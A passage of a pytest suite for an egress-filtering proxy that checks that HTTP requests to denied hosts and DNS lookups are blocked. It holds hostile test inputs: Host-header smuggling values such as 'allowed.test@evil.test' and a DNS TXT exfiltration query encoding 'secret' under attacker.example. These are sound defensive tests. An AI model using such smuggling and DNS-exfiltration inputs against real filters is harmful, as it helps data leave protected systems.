    b"GET /hello?TOK HTTP/1.1\r\nHost: \r\n\r\n",
    b"GET /hello?TOK HTTP/1.1\r\nHost: allowed.test/x\r\n\r\n",
    b"GET /hello?TOK HTTP/1.1\r\nHost: allowed.test@evil.test\r\n\r\n",
    b"GET /hello?TOK HTTP/1.1\r\nHost: allowed test\r\n\r\n",
], ids=["missing", "missing-1.0", "duplicate-same", "duplicate-allowed-first",
        "duplicate-denied-first", "empty", "path", "userinfo", "space"])
def test_http_bad_host_400(world, proxy, raw):
    tok = token()
    with world.connect(SOMEWHERE, 80) as c:
        c.send(raw.replace(b"TOK", tok.encode()))
        assert c.read_response().status == 400
    assert not world.http.state.find(tok) and world.http.state.connections == 0
    rec = proxy.log.wait_one(by(event="http"))
    assert rec["decision"] == "deny" and rec["status"] == 400
    assert rec["original_dst"] == f"{SOMEWHERE}:80"


def test_http_absolute_form_cannot_pick_the_host(world, proxy):
    """A redirected request names its host in Host; an absolute-form target
    naming another must not reach it."""
    tok = token()
    with world.connect(SOMEWHERE, 80) as c:
        c.send(request_bytes("GET", f"http://evil.test/hello?{tok}", "allowed.test"))
        assert c.read_response().status in (400, 403)
    assert not world.http.state.find(tok)


def test_http_post_body_relayed(world, proxy):
    body = pattern(300000)
    with world.connect(SOMEWHERE, 80) as c:
        c.send(request_bytes("POST", "/upload", "allowed.test", body=body))
        resp = c.read_response()
    assert resp.status == 200
    assert b'"len": 300000' in resp.body


def test_http_garbage_on_http_port(world, proxy):
    with world.connect(SOMEWHERE, 80) as c:
        c.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 64 + b"\r\n\r\n")
        resp = c.read_response()
    assert resp.status == 400
    assert world.http.state.connections == 0


def test_http_keepalive_each_request_judged(world, proxy):
    t1, t2, t3 = token(), token(), token()
    with world.connect(SOMEWHERE, 80) as c:
        c.send(request_bytes("GET", f"/hello?{t1}", "allowed.test"))
        r1 = c.read_response()
        assert r1.status == 200 and r1.body == HELLO_BODY
        c.send(request_bytes("GET", f"/hello?{t2}", "evil.test"))
        assert c.read_response().status == 403
        try:  # whether the connection survives a denial is the proxy's choice
            c.send(request_bytes("GET", f"/hello?{t3}", "other.test"))
            r3 = c.read_response()
        except (ConnectionClosed, OSError):
            r3 = None
    assert world.http.state.find(t1)
    assert not world.http.state.find(t2)
    if r3 is not None:
        assert r3.status == 200 and world.http.state.find(t3)
    proxy.log.wait_one(by(event="http", host="allowed.test", decision="allow"))
    rec = proxy.log.wait_one(by(event="http", host="evil.test"))
    assert rec["decision"] == "deny" and rec["status"] == 403


def test_http_pipelined_second_request_denied(world, proxy):
    t1, t2 = token(), token()
    with world.connect(SOMEWHERE, 80) as c:
        c.send(request_bytes("GET", f"/hello?{t1}", "allowed.test")
               + request_bytes("GET", f"/hello?{t2}", "evil.test"))
        assert c.read_response().body == HELLO_BODY
        assert c.read_response().status == 403
    assert world.http.state.find(t1) and not world.http.state.find(t2)


# -- DNS redirected to the filtered DNS server --------------------------------------------

DNS_PORT = 15053


@pytest.fixture
def dns_proxy(world):
    """The proxy with its DNS server, and the client's DNS (UDP and TCP 53, to
    any address) redirected to it, as awf's sandbox does."""
    p = world.start_proxy(extra=["--dns-listen", f"127.0.0.1:{DNS_PORT}"])
    rules = (f"add rule inet awf out meta skuid {netns.CLIENT_UID} udp dport 53 redirect to :{DNS_PORT}\n"
             f"add rule inet awf out meta skuid {netns.CLIENT_UID} tcp dport 53 redirect to :{DNS_PORT}\n")
    world.ns.run(["nft", "-f", "-"], input=rules.encode())
    return p


def dig(world, *args):
    r = world.ns.run(["dig", "+time=3", "+tries=1", *args], uid=netns.CLIENT_UID, check=False)
    return r.stdout.decode() if isinstance(r.stdout, bytes) else r.stdout


def test_dns_to_any_resolver_is_answered_by_the_filter(world, dns_proxy):
    out = dig(world, "@1.1.1.1", "+short", "allowed.test", "A")
    assert out.split() == ["127.0.0.1"]
    rec = dns_proxy.log.wait_one(by(event="dns", qname="allowed.test"))
    assert rec["decision"] == "allow" and rec["answers"] == 1


def test_dns_denied_and_txt_exfiltration_refused_never_forwarded(world, dns_proxy):
    before = world.dns.total()
    out = dig(world, "@8.8.8.8", "TXT", "c2VjcmV0.attacker.example")
    assert "status: NXDOMAIN" in out
    out = dig(world, "@1.1.1.1", "evil.test", "A")
    assert "status: NXDOMAIN" in out
    assert world.dns.total() == before  # nothing reached the upstream resolver
    rec = dns_proxy.log.wait_one(by(event="dns", qname="c2vjcmv0.attacker.example"))
    assert rec["decision"] == "deny" and rec["reason"] == "not_allowed"


def test_dns_over_tcp_is_redirected_too(world, dns_proxy):
    out = dig(world, "+tcp", "@9.9.9.9", "+short", "allowed.test", "A")
    assert out.split() == ["127.0.0.1"]
